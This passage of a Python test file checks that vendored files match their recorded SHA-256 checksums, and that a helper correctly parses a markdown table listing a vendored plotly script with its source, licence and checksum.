        assert hashlib.sha256((VENDOR / name).read_bytes()).hexdigest() == checksum, name


def test_the_vendored_checksum_table_is_read():
    row = "| `plotly/x.js` | npm | 1 | MIT | `" + "ab" * 32 + "` |"
    assert vendored_checksums(f"| File | From |\n|---|---|\n{row}\n") == {"plotly/x.js": "ab" * 32}
